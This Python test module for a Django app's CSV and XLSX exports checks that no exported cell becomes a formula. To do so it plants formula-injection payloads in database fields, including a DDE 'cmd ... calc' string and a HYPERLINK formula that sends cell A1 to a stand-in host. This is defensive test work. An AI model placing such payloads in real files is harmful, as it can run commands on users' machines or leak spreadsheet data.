"""P31: no cell of an export is a formula, and figures, days and empties stay what they are."""

from __future__ import annotations

import http.client
import random
import re
import unicodedata
from datetime import timedelta
from itertools import cycle
from typing import Any
from urllib.parse import urlencode

from django.contrib.contenttypes.models import ContentType
from django.db.models import F
from django.utils.timezone import localdate, now

from accounts.models import Account, OrderLine
from acr_program.exports.models import Export
from acr_program.intake.models import Batch
from acr_program.outbox.models import Message
from acr_program.people.models import User
from acr_program.ui.known import Known, every
from acr_program.workflow.obligations import Obligation
from reviews.models import Approval, Deviation, FollowUp, InformationRequest, Section, TouchPoint
from tests.exports.reading import csv_rows, xlsx_rows
from tests.house.test_queries import fill
from tests.keyed import keyed
from tests.reviews.library import a_touch
from tests.routes.world import world as office

from .clients import FORM, SECRET, Client, session_of
from .tally import Tally
from .world import World, Worlds

SAYS = "no cell of an export is a formula"
HIDDEN = "\u200b\u200e\u2060\u2066\ufeff\u00ad\u180e"  # nothing is seen of them
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
BEFORE = ["", " ", "  ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2009 ", "\t", "\n", "\r\n", "\u2028"]
AFTER = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"open")', "SUM(1,2)", 'IMPORTXML("http://x","//a")',
    "A1", "\"x\",=1", "x;=1+1", "x\r\n=1+1", "DDE(1,2,3)", "-1", "=1", "@SUM(1)", " 1", "é=1", "１",
]  # fmt: skip
PLAIN = ["plain", "a=b", "1-2", "x@y.example", "'=1", "#N/A", "#REF!", "TRUE", "00123", "1e5", "<b>=1</b>", "Ærø"]
BAD = re.compile(r"[=+\-@]")
READERS = {"sections": "rep", "messages": "rep", "to-approve": "leader"}  # what stands in a list of one's own


def payloads(number: int, rng: random.Random) -> list[str]:
    """So many different texts that some program would take for a formula, and some that none does."""
    made = [f"{before}{start}{after}" for before in BEFORE for start in STARTS for after in AFTER]
    return [*PLAIN, *rng.sample(made, min(number, len(made)))]


def is_bad(text: str) -> bool:
    """Judged in another way than the program does: what is left of it when nothing unseen stands before it."""
    seen = text.lstrip(" \u00a0\u3000")
    if seen[:1] in ("\t", "\r", "\n"):
        return True
    while seen and (seen[0].isspace() or seen[0] in HIDDEN or unicodedata.category(seen[0]) == "Cf"):
        seen = seen[1:]
    return bool(BAD.match(unicodedata.normalize("NFKC", seen[:1])))


def prove(worlds: Worlds, tally: Tally, *, full: bool, rng: random.Random) -> None:
    run(worlds, tally, payloads(2_000 if full else 100, rng))
    control = Tally(quiet=True)
    run(worlds, control, payloads(20, rng), off="harmless", only=("accounts", "people"))
    tally.control(control, "the guard of each cell")


def run(worlds: Worlds, tally: Tally, texts: list[str], off: str = "", only: tuple[str, ...] = ()) -> None:
    with worlds.new(furnish=office) as world:
        found = world.inside
        fill(found, len(texts))
        let_it_be_shown(found, len(texts))
        a_touch(found.people["rep"], "answered", kind="star")
        plant(texts)
        world.serve(off=off)
        lists = [known for known in every() if not only or known.name in only]
        cells = 0
        for known in lists:
            reader = found.people[READERS.get(known.name, "admin")]
            cells += check(tally, known, world, session_of(reader), record_in(known, found.records["own"]))
            Export.objects.update(created_at=F("created_at") - timedelta(hours=1))  # so many in an hour are refused
        tally.say(f"{cells} cells of {len(lists)} lists read back, {len(texts)} texts in each")


def record_in(known: Known, own: dict[str, Any]) -> int:
    """Of which record the list is, where it is one record's: the account, the wave, the wave in which something was found."""
    if known.name == "pilot-findings":
        return int(own["finding"].wave_id)
    if known.of in keyed().record_of:
        return int(keyed().record_of[known.of]().pk)
    return int(own["pilotwave" if known.of == "wave" else "account"].pk)


def let_it_be_shown(found: Any, number: int) -> None:
    """What is answered and decided stands in its lists, the leader's own still waits, and so much is late."""
    InformationRequest.objects.filter(status="requested").update(status="submitted")
    waits = Approval.objects.filter(status="pending").exclude(approver=found.people["leader"])
    waits.update(status="approved")
    account, due = found.records["own"]["account"], now() - timedelta(days=9)
    kind = ContentType.objects.get_for_model(account)
    late = {"content_type": kind, "object_id": account.pk, "url": "/", "due_at": due, "person": found.people["rep"]}
    Obligation.objects.bulk_create([Obligation(step="close", what="x", title="x", **late) for _ in range(number)])
    Account.objects.update(has_open_ends=True, theater="")
    bought = {"account": account, "product": "x", "quantity": 1, "unit_price": 1, "ordered_on": localdate()}
    OrderLine.objects.bulk_create([OrderLine(number=f"x{n}", line=n, **bought) for n in range(number)])
    known = found.records["own"]["batch"]
    Batch.objects.bulk_create(
        [Batch(kind=known.kind, file=known.file, file_name="x", uploaded_by=known.uploaded_by) for _ in range(number)]
    )


def plant(texts: list[str]) -> None:
    """Each text into each column of words that a list shows, past the forms: an import may have brought it."""
    columns: dict[Any, tuple[str, ...]] = {
        Account: ("name", "city", "country", "manager_named"), User: ("name", "title"), Message: ("subject", "error"),
        Obligation: ("what", "title"), Approval: ("comment",), Section: ("title",), Export: ("title", "query"),
        OrderLine: ("product", "category"), Batch: ("file_name", "error"), Deviation: ("reason", "text"),
        FollowUp: ("what", "outcome"), TouchPoint: ("lesson",), **keyed().texts(),
    }  # fmt: skip
    for model, names in columns.items():
        rows = list(model._default_manager.order_by("-pk"))
        for row, text in zip(rows, cycle(texts), strict=False):
            for name in names:
                setattr(row, name, text)
        model._default_manager.bulk_update(rows, names, batch_size=200)


def check(tally: Tally, known: Known, world: World, session: str, account: int) -> int:
    """The account's number is told where the list is one account's."""
    as_csv = csv_rows(taken(world, session, known, account, "csv"))
    as_xlsx = xlsx_rows(taken(world, session, known, account, "xlsx"))
    words = [cell for row in as_csv[1:] for cell in row]
    bad = [cell for cell in words if is_bad(cell) and not is_figure(cell)]
    tally.expect(not bad, f"{known.name}, CSV: no text begins as a formula.", bad[:3])
    held = [cell for row in as_xlsx for cell in row if cell]
    formulas = [cell for cell in held if cell.formula or cell.kind in ("str", "e")]
    tally.expect(not formulas, f"{known.name}, XLSX: no cell is a formula or an error.", formulas[:3])
    bad = [cell.text for cell in held if cell.kind == "inlineStr" and is_bad(cell.text)]
    tally.expect(not bad, f"{known.name}, XLSX: no text begins as a formula.", bad[:3])
    numbers = [cell for cell in held if cell.kind == "n" and not is_figure(cell.text)]
    tally.expect(not numbers, f"{known.name}, XLSX: figures are figures.", numbers[:3])
    if known.name == "exports":  # each export adds a row to this list: its own
        as_csv, as_xlsx = as_csv[:1] + as_csv[2:], as_xlsx[:1] + as_xlsx[3:]
    tally.expect(
        len(as_csv) == len(as_xlsx) > 1, f"{known.name}: both files have its rows.", (len(as_csv), len(as_xlsx))
    )
    tally.expect(alike(as_csv, as_xlsx), f"{known.name}: both files say the same, empties as empties.")
    return len(words) + len(held)


def alike(as_csv: list[list[str]], as_xlsx: list[Any]) -> bool:
    """The same words in both, cell by cell; where one is empty so is the other."""
    for words, cells in zip(as_csv, as_xlsx, strict=True):
        for at, word in enumerate(words):
            cell = cells[at] if at < len(cells) else None
            if (cell is None) != (word == ""):
                return False
            if cell and cell.kind == "inlineStr" and lines(cell.text) != lines(word):
                return False
    return True


def lines(text: str) -> str:
    """XML knows one end of a line."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def is_figure(text: str) -> bool:
    return bool(re.fullmatch(r"-?\d+(\.\d+)?([eE][+-]?\d+)?", text))


def taken(world: World, session: str, known: Known, account: int, kind: str) -> bytes:
    """The file, byte for byte."""
    connection = http.client.HTTPConnection("127.0.0.1", world.port, timeout=120)
    cookie = {"Cookie": Client(world.port, session).cookie}
    connection.request(
        "POST", f"/exports/{known.name}/{f'?{known.of}={account}' if known.of else ''}",
        urlencode({"csrfmiddlewaretoken": SECRET, "as": kind}), FORM | cookie,
    )  # fmt: skip
    answer = connection.getresponse()
    data = answer.read()
    if answer.status != 200:
        raise RuntimeError(f"The export of {known.name} answers {answer.status}: {data[:300]!r}")
    return data
